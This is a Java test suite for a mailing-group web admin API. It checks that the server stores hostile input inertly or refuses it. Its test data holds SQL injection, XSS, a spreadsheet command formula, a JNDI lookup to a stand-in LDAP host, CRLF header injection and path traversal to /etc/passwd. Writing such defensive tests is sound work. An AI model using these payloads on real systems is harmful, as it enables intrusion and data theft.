// SPDX-License-Identifier: Apache-2.0
package org.mailgroups.webadmin;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;
import static org.hamcrest.Matchers.equalTo;
import static org.mailgroups.webadmin.Webadmin.ALICE;
import static org.mailgroups.webadmin.Webadmin.BOB;
import static org.mailgroups.webadmin.Webadmin.TEAM;

import io.restassured.response.Response;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.mailgroups.value.Address;
import org.mailgroups.value.PercentCoding;

/** Calls that an attacker or a broken client may send. */
class AttackTest {
    @RegisterExtension
    static final Webadmin webadmin = new Webadmin();

    private static final int TEN_MEGABYTES = 10 << 20;

    private static String request(String method, String path, String... headers) {
        return method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n"
                + String.join("", List.of(headers)) + "\r\n";
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "'; DROP TABLE groups; --",
                "%' OR '1'='1",
                "x\\\\' UNION SELECT * FROM members",
                "100%_\\\\%",
                "<script>alert(1)</script>",
                "=cmd|' /C calc'!A0",
                "{{7*7}} ${jndi:ldap://x.test/a}"
            })
    void anyLineOfTextShouldBeKeptAsItIs(String name) {
        webadmin.call("{\"name\":\"" + name + "\",\"description\":\"" + name + "\"}")
                .put("/groups/" + TEAM)
                .then()
                .statusCode(201);

        String plain = name.replace("\\\\", "\\");
        webadmin.call()
                .get("/groups/" + TEAM)
                .then()
                .body("name", equalTo(plain))
                .body("description", equalTo(plain));
        assertThat(webadmin.call()
                        .get("/groups?q=" + PercentCoding.encodeSegment(plain))
                        .<List<String>>path("items.address"))
                .containsExactly(TEAM);
        webadmin.call()
                .get("/groups?q=" + PercentCoding.encodeSegment(plain + "qqx"))
                .then()
                .body("items.size()", equalTo(0));
    }

    @Test
    void anyAddressShouldBeKeptAsItIs() {
        String address = "o'neil&{drop}|`table`/?#%s@example.org".replace("%s", "");

        Response created = webadmin.call("{\"name\":\"x\"}").put("/groups/" + PercentCoding.encodeSegment(address));

        created.then().statusCode(201).body("address", equalTo(address));
        assertThat(created.header("Location"))
                .isEqualTo("/groups/o%27neil%26%7Bdrop%7D%7C%60table%60%2F%3F%23@example.org");
        webadmin.call().get(created.header("Location")).then().statusCode(200).body("address", equalTo(address));
    }

    @ParameterizedTest
    @ValueSource(strings = {"\\r\\nX-Evil: 1", "\\n", "\\u0000", "\\u0085", "\\u2028", "\\u202e", "\\ud800", "\\u007f"})
    void noTextShouldCarryAnythingButALine(String evil) {
        String body = "{\"name\":\"a" + evil + "b\"}";
        webadmin.createGroup(TEAM);

        for (Response response : List.of(
                webadmin.call(body).put("/groups/new@example.org"),
                webadmin.call(body).patch("/groups/" + TEAM),
                webadmin.call(body.replace("name", "description")).patch("/groups/" + TEAM),
                webadmin.call(body).put("/groups/" + TEAM + "/members/" + BOB),
                webadmin.call(body).put("/profiles/" + ALICE))) {
            response.then().statusCode(400).body("type", equalTo("InvalidArgument"));
            assertThat(response.getHeaders().hasHeaderWithName("X-Evil")).isFalse();
        }
    }

    @Test
    void answersShouldCarryNoHeaderFromAPath() throws IOException {
        String answer = webadmin.raw(request("GET", "/groups/a%0d%0aX-Evil:%201@example.org"));

        assertThat(answer).startsWith("HTTP/1.1 400").doesNotContain("\r\nX-Evil");
    }

    @Test
    void aBodyOfTenMegabytesShouldBeTooLargeEverywhere() {
        String body = "{\"name\":\"" + "x".repeat(TEN_MEGABYTES) + "\"}";
        webadmin.createGroup(TEAM);

        for (Response response : List.of(
                webadmin.call(body).put("/groups/new@example.org"),
                webadmin.call(body).patch("/groups/" + TEAM),
                webadmin.call(body).put("/groups/" + TEAM + "/members/" + BOB),
                webadmin.call(body).put("/memberships/" + BOB + "/" + TEAM),
                webadmin.call(body).put("/profiles/" + ALICE))) {
            response.then()
                    .statusCode(413)
                    .body("type", equalTo("InvalidArgument"))
                    .body("message", containsString("body"));
        }
    }

    @Test
    void aLongTextInABodyOfAllowedSizeShouldNameTheField() {
        webadmin.call("{\"name\":\"" + "x".repeat(1 << 20) + "\"}")
                .put("/groups/" + TEAM)
                .then()
                .statusCode(400)
                .body("message", containsString("name"));
        String member = "x".repeat(1 << 20) + "@elsewhere.test";
        Response response = webadmin.call("{\"name\":\"x\",\"members\":[\"" + member + "\"]}")
                .put("/groups/" + TEAM);
        response.then().statusCode(400).body("message", containsString("members[0]"));
        assertThat(response.asString()).hasSizeLessThan(1000);
    }

    @ParameterizedTest
    @ValueSource(strings = {"[", "{\"a\":", "{\"name\":[", "{\"members\":[[", "{\"members\":[{\"address\":{\"x\":"})
    void deepJsonShouldBeRefusedAtOnce(String layer) {
        webadmin.call(layer.repeat((4 << 20) / layer.length()))
                .put("/groups/" + TEAM)
                .then()
                .statusCode(400)
                .body("type", equalTo("InvalidArgument"));
    }

    @ParameterizedTest
    @ValueSource(ints = {19, 1000, 1001, 100_000})
    void aLongNumberShouldNameTheField(int digits) {
        webadmin.createGroup(TEAM);

        webadmin.call("{\"settings\":{\"maxMessageBytes\":" + "9".repeat(digits) + "}}")
                .patch("/groups/" + TEAM)
                .then()
                .statusCode(400)
                .body("type", equalTo("InvalidArgument"))
                .body("message", containsString("settings.maxMessageBytes"));
    }

    @Test
    void aHugeFieldNameShouldBeShownCutShort() {
        Response response = webadmin.call("{\"" + "x".repeat(1 << 20) + "\":1}").put("/groups/" + TEAM);

        response.then().statusCode(400);
        assertThat(response.asString()).hasSizeLessThan(1000);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "{\"name\":\"a\"} {}",
                "{\"name\":\"a\"}x",
                "{\"name\":\"a\"",
                "{'name':'a'}",
                "{\"name\":\"a\",}",
                "{name:\"a\"}",
                "/* x */{\"name\":\"a\"}",
                "\"name\"",
                "NaN",
                "{\"name\":\"\u0001\"}",
                " "
            })
    void whatIsNotOneJsonObjectShouldNameTheBody(String body) {
        webadmin.call(body)
                .put("/groups/" + TEAM)
                .then()
                .statusCode(400)
                .body("type", equalTo("InvalidArgument"))
                .body("message", containsString("body"));
    }

    @Test
    void brokenUtf8ShouldNameTheBody() throws IOException {
        String body = "{\"name\":\"\u00ff\u00fe\"}";

        String answer = webadmin.raw(request(
                        "PUT",
                        "/groups/" + TEAM,
                        "Content-Type: application/json\r\n",
                        "Content-Length: " + body.length() + "\r\n")
                + body);

        assertThat(answer).startsWith("HTTP/1.1 400").contains("\"message\":\"body");
    }

    @Test
    void aMissingBodyShouldNameTheBody() {
        webadmin.call().put("/groups/" + TEAM).then().statusCode(400).body("message", containsString("body"));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "text/plain",
                "text/csv",
                "application/x-www-form-urlencoded",
                "multipart/form-data; boundary=x",
                "application/json; charset=ISO-8859-1",
                "application/json, text/plain",
                "application/jsonp",
                "application/json-patch+json",
                "*/*"
            })
    void aBodyOfAnotherTypeShouldBeUnsupported(String type) throws IOException {
        String body = "{\"name\":\"a\"}";

        String answer = webadmin.raw(request(
                        "PUT",
                        "/groups/" + TEAM,
                        "Content-Type: " + type + "\r\n",
                        "Content-Length: " + body.length() + "\r\n")
                + body);

        assertThat(answer).startsWith("HTTP/1.1 415").contains("\"type\":\"InvalidArgument\"");
    }

    @Test
    void aBodyThatDoesNotSayWhatItIsShouldBeUnsupported() throws IOException {
        String body = "{\"name\":\"a\"}";

        String answer =
                webadmin.raw(request("PUT", "/groups/" + TEAM, "Content-Length: " + body.length() + "\r\n") + body);

        assertThat(answer)
                .startsWith("HTTP/1.1 415")
                .contains("Content-Type is missing; this call takes application/json");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "Content-Type: application/json\r\n",
                "Content-Type: Application/JSON;charset=UTF-8\r\n",
                "Content-Type: application/json; charset=\"utf-8\"\r\n"
            })
    void aBodyOfJsonShouldBeRead(String header) throws IOException {
        String body = "{\"name\":\"a\"}";

        String answer = webadmin.raw(
                request("PUT", "/groups/" + TEAM, header, "Content-Length: " + body.length() + "\r\n") + body);

        assertThat(answer).startsWith("HTTP/1.1 201");
    }

    @ParameterizedTest
    @CsvSource({
        "POST,/groups",
        "PUT,/groups",
        "DELETE,/groups",
        "PATCH,/groups",
        "POST,/groups/team@example.org",
        "POST,/groups/team@example.org/members",
        "DELETE,/groups/team@example.org/members",
        "PATCH,/groups/team@example.org/members/bob@example.org",
        "PUT,/groups/team@example.org/members/bob@example.org/x",
        "GET,/groups/team@example.org/administrators",
        "PATCH,/profiles/alice@example.org",
        "DELETE,/profiles",
        "GET,/memberships",
        "GET,/memberships/bob@example.org/team@example.org",
        "PROPFIND,/groups/team@example.org",
        "TRACE,/groups/team@example.org",
        "BREW,/groups/team@example.org",
        "get,/groups/",
        "GET,/groups/../profiles",
        "GET,/groups/%2e%2e/profiles",
        "GET,/groups/..%2fprofiles",
        "GET,/groups/team@example.org/../../profiles",
        "GET,/groups/..;/profiles",
        "GET,/groups/team@example.org/members/../../../etc/passwd",
        "GET,/groups/.%00/team@example.org"
    })
    void whatIsNoRouteShouldDoNothing(String method, String path) throws IOException {
        webadmin.createGroup(TEAM, BOB);

        String answer = webadmin.raw(request(method, path));

        assertThat(answer).matches("(?s)HTTP/1\\.1 (400|404|405) .*");
        assertThat(webadmin.groups().find(Address.parse(TEAM)))
                .hasValueSatisfying(group -> assertThat(group.memberCount()).isEqualTo(1));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "/groups/a%zz@example.org",
                "/groups/a%",
                "/groups/a%f",
                "/groups/%ff@example.org",
                "/groups/%u0041@example.org",
                "/groups/a;x=y@example.org",
                "/groups/%C0%AE@example.org"
            })
    void aPathThatIsNotPercentEncodedUtf8ShouldBeRefused(String path) throws IOException {
        assertThat(webadmin.raw(request("GET", path))).startsWith("HTTP/1.1 400");
    }

    @ParameterizedTest
    @ValueSource(strings = {"OPTIONS", "GET", "POST", "HEAD"})
    void noOtherMethodShouldBeSmuggledPastTheAuthentication(String method) throws IOException {
        webadmin.createGroup(TEAM);

        String answer = webadmin.raw(request(method, "/groups/" + TEAM, "X-HTTP-Method-Override: DELETE\r\n"));

        assertThat(answer).startsWith("HTTP/1.1 400");
        assertThat(webadmin.groups().find(Address.parse(TEAM))).isPresent();
    }
}
